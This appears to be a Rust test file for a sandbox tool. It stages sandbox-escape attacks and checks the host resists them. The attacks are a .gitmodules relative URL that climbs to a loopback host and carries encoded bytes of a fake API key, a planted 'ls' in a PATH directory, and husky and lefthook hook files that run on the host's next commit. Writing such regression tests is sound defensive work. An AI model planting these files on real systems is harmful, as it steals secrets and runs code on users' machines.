//! `skarn run`, attack atk22j (issue 22): where host programs go from
//! what a run leaves. F3: a relative submodule URL whose `..` steps climb
//! over the remote's path to another host (ADR 0291). Each test makes the
//! attack for real in both workspace layers and judges from outside,
//! after the run: host git did not connect to the loopback listener the
//! run named. F4: a missing `PATH` directory inside the workspace that
//! the caller's `PATH` names through a link of the host's, or with a `..`
//! after a missing name: the host shell's next `ls` did not run the
//! program the run put there. F8, F9: the files git and its hook
//! managers read at the top of a nested repository (`.gitmodules`,
//! `.husky/`, `lefthook.yml`; ADR 0292).

use std::io::Read;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::common::*;
use skarn_test_support::TempDir;

const LAYERS: &[&str] = &["direct", "cow"];

/// Host git in `dir` with the user's (empty) configuration of `home`,
/// never prompting.
fn host_git(dir: &Path, home: &Path, args: &[&str]) -> std::process::Output {
    Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(["-c", "safe.directory=*"])
        .args(args)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_TERMINAL_PROMPT", "0")
        .output()
        .unwrap()
}

/// A loopback listener counting connections (each closed at once).
fn listener() -> (u16, Arc<AtomicUsize>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let n = Arc::new(AtomicUsize::new(0));
    let seen = n.clone();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            seen.fetch_add(1, Ordering::SeqCst);
            let mut s = s;
            let _ = s.set_read_timeout(Some(std::time::Duration::from_millis(200)));
            let _ = s.read(&mut [0u8; 512]);
        }
    });
    (port, n)
}

#[test]
fn a_relative_submodule_url_climbing_to_another_host_is_not_kept() {
    // F3: with the remote `http://git.invalid/someuser/p`, the
    // `.gitmodules` URL `../../../127.0.0.1:<port>/<data>` is
    // `http://127.0.0.1:<port>/<data>` to git: host `git submodule update
    // --init` connected there, past `--net deny`. In the work tree only,
    // and staged through the index only (host `git checkout --
    // .gitmodules` brings it back).
    if !host_has("git", "--version") {
        skarn_test_support::skip!("git is not installed");
    }
    let mut failed = Vec::new();
    for layer in LAYERS {
        for staged in [false, true] {
            let t = TempDir::new("atk22j-f3");
            let (home, ws) = (t.dir("home"), t.dir("ws"));
            git(&ws, &["init", "-q", "-b", "master"]);
            git(
                &ws,
                &["remote", "add", "origin", "http://git.invalid/someuser/p"],
            );
            std::fs::write(ws.join("app.conf"), "API_KEY=sk-live-123\n").unwrap();
            git(&ws, &["add", "app.conf"]);
            git(&ws, &["commit", "-qm", "init"]);
            let (port, seen) = listener();
            let stage = if staged {
                "git add .gitmodules; rm .gitmodules; "
            } else {
                ""
            };
            let script = format!(
                "set -e; D=$(head -c 8 app.conf | od -An -tx1 | tr -d ' \\n'); \
                 git config -f .gitmodules submodule.y.path lib/y; \
                 git config -f .gitmodules submodule.y.url ../../../127.0.0.1:{port}/x-$D; \
                 git update-index --add --cacheinfo \
                   160000,1111111111111111111111111111111111111111,lib/y; \
                 git -c user.name=t -c user.email=t@t commit -qm lib; {stage}echo PLANTED"
            );
            let o = run_in(
                &ws,
                &home,
                &["--workspace-layer", layer],
                &["sh", "-c", &script],
            );
            let e = err(&o);
            assert!(out(&o).contains("PLANTED"), "{layer}: {}{e}", out(&o));
            if staged {
                let _ = host_git(&ws, &home, &["checkout", "--", ".gitmodules"]);
            }
            let _ = host_git(&ws, &home, &["submodule", "update", "--init"]);
            let _ = host_git(&ws, &home, &["submodule", "sync"]);
            let _ = host_git(&ws, &home, &["submodule", "update"]);
            std::thread::sleep(std::time::Duration::from_millis(100));
            if seen.load(Ordering::SeqCst) != 0 {
                failed.push(format!("{layer} staged={staged}: {e}"));
            }
        }
    }
    assert!(
        failed.is_empty(),
        "host git contacted the host the run's relative submodule URL climbed to: {failed:#?}"
    );
}

#[test]
fn a_missing_path_directory_named_through_a_link_or_dotdot_is_protected() {
    // F4: `PATH` holds `<link>/bin` (`<link> -> ws`), `<link>/node_modules/
    // .bin` or `ws/x/../bin`; none exists before the run. The run makes
    // them with an `ls` inside; the host's next `ls` ran it.
    let mut failed = Vec::new();
    for layer in LAYERS {
        for entry in ["wslink/bin", "wslink/node_modules/.bin", "ws/x/../bin"] {
            let t = TempDir::new("atk22j-f4");
            let (home, ws) = (t.dir("home"), t.dir("ws"));
            std::os::unix::fs::symlink("ws", t.join("wslink")).unwrap();
            let marker = t.join("PLANTED-RAN");
            let path = format!("{}:/usr/local/bin:/usr/bin:/bin", t.join(entry).display());
            let script = format!(
                "mkdir -p x bin node_modules/.bin && \
                 printf '#!/bin/sh\\ntouch {m}\\n' > bin/ls && cp bin/ls node_modules/.bin/ls && \
                 chmod +x bin/ls node_modules/.bin/ls; echo RAN",
                m = marker.display()
            );
            let o = run_command(
                &ws,
                &home,
                &["--workspace-layer", layer],
                &["sh", "-c", &script],
            )
            .env("PATH", &path)
            .output()
            .unwrap();
            let said = format!("{}{}", out(&o), err(&o));
            assert!(said.contains("RAN"), "{layer} {entry}: {said}");
            let _ = Command::new("sh")
                .args(["-c", "ls >/dev/null 2>&1"])
                .current_dir(&ws)
                .env("PATH", &path)
                .status();
            if marker.exists() {
                failed.push(format!("{layer} {entry}: {said}"));
            }
        }
    }
    assert!(
        failed.is_empty(),
        "the host's ls ran the program the run put in a missing PATH directory: {failed:#?}"
    );
}

/// A repository at `dir` with one commit, on branch `master`.
fn repo(dir: &Path) {
    git(dir, &["init", "-q", "-b", "master"]);
    std::fs::write(dir.join("README"), "SECRETDATA\n").unwrap();
    git(dir, &["add", "README"]);
    git(dir, &["commit", "-qm", "init"]);
}

#[test]
fn a_nested_repositorys_gitmodules_names_no_address_the_run_chose() {
    // F8: `vendor/foo/.gitmodules` (a nested repository of the workspace)
    // with a network URL, or a relative one climbing over its remote's
    // host, and the gitlink staged: host `git submodule update --init`
    // run there connected to the run's address.
    if !host_has("git", "--version") {
        skarn_test_support::skip!("git is not installed");
    }
    let mut failed = Vec::new();
    for layer in LAYERS {
        for url in ["http://127.0.0.1:PORT/x-$D", "../../../127.0.0.1:PORT/x-$D"] {
            let t = TempDir::new("atk22j-f8");
            let (home, ws) = (t.dir("home"), t.dir("ws"));
            repo(&ws);
            let foo = t.dir("ws/vendor/foo");
            repo(&foo);
            git(
                &foo,
                &["remote", "add", "origin", "http://git.invalid/someuser/p"],
            );
            let (port, seen) = listener();
            let url = url.replace("PORT", &port.to_string());
            let script = format!(
                "set -e; cd vendor/foo; D=$(head -c 8 README | od -An -tx1 | tr -d ' \\n'); \
                 git config -f .gitmodules submodule.y.path lib/y; \
                 git config -f .gitmodules submodule.y.url {url}; \
                 git update-index --add --cacheinfo \
                   160000,1111111111111111111111111111111111111111,lib/y; echo PLANTED"
            );
            let o = run_in(
                &ws,
                &home,
                &["--workspace-layer", layer],
                &["sh", "-c", &script],
            );
            let e = err(&o);
            assert!(out(&o).contains("PLANTED"), "{layer}: {}{e}", out(&o));
            let _ = host_git(&foo, &home, &["submodule", "update", "--init"]);
            std::thread::sleep(std::time::Duration::from_millis(100));
            if seen.load(Ordering::SeqCst) != 0 {
                failed.push(format!("{layer} {url}: {e}"));
            }
        }
    }
    assert!(
        failed.is_empty(),
        "host git in the nested repository contacted the run's address: {failed:#?}"
    );
}

#[test]
fn a_nested_repositorys_hook_manager_files_are_not_the_runs() {
    // F9: a project of the workspace (`projA`, its own repository) uses
    // husky (`core.hooksPath = .husky/_`, stubs running `.husky/<hook>`);
    // the run wrote `projA/.husky/pre-commit`, and the host's next `git
    // commit` there ran it. `lefthook.yml` made there is not kept either.
    if !host_has("git", "--version") {
        skarn_test_support::skip!("git is not installed");
    }
    let mut failed = Vec::new();
    for layer in LAYERS {
        for existing in [true, false] {
            let t = TempDir::new("atk22j-f9");
            let (home, ws) = (t.dir("home"), t.dir("ws"));
            let p = t.dir("ws/projA");
            git(&p, &["init", "-q", "-b", "master"]);
            t.file(
                "ws/projA/.husky/_/h",
                "#!/bin/sh\nn=$(basename \"$0\"); s=$(dirname \"$(dirname \"$0\")\")/$n\n\
                 [ -f \"$s\" ] || exit 0\nexec sh -e \"$s\" \"$@\"\n",
            );
            t.file(
                "ws/projA/.husky/_/pre-commit",
                "#!/bin/sh\n. \"$(dirname \"$0\")/h\"\n",
            );
            if existing {
                t.file("ws/projA/.husky/pre-commit", "true\n");
            }
            for f in ["h", "pre-commit"] {
                let f = p.join(".husky/_").join(f);
                use std::os::unix::fs::PermissionsExt;
                std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o755)).unwrap();
            }
            git(&p, &["config", "core.hooksPath", ".husky/_"]);
            std::fs::write(p.join("a"), "hi\n").unwrap();
            git(&p, &["add", "-A"]);
            git(&p, &["commit", "-qm", "one"]);
            let marker = t.join("PLANTED-RAN");
            let script = format!(
                "printf 'touch {m}\\n' > projA/.husky/pre-commit; \
                 printf 'pre-commit:\\n  commands:\\n    x:\\n      run: touch {m}\\n' \
                   > projA/lefthook.yml; echo RAN",
                m = marker.display()
            );
            let o = run_in(
                &ws,
                &home,
                &["--workspace-layer", layer],
                &["sh", "-c", &script],
            );
            let said = format!("{}{}", out(&o), err(&o));
            assert!(said.contains("RAN"), "{layer}: {said}");
            std::fs::write(p.join("a"), "two\n").unwrap();
            let _ = host_git(&p, &home, &["commit", "-qam", "two"]);
            let lefthook = std::fs::read_to_string(p.join("lefthook.yml")).unwrap_or_default();
            if marker.exists() || lefthook.contains("touch") {
                failed.push(format!("{layer} existing={existing}: {said}"));
            }
        }
    }
    assert!(
        failed.is_empty(),
        "the run's hook-manager files at a nested repository's top were kept: {failed:#?}"
    );
}
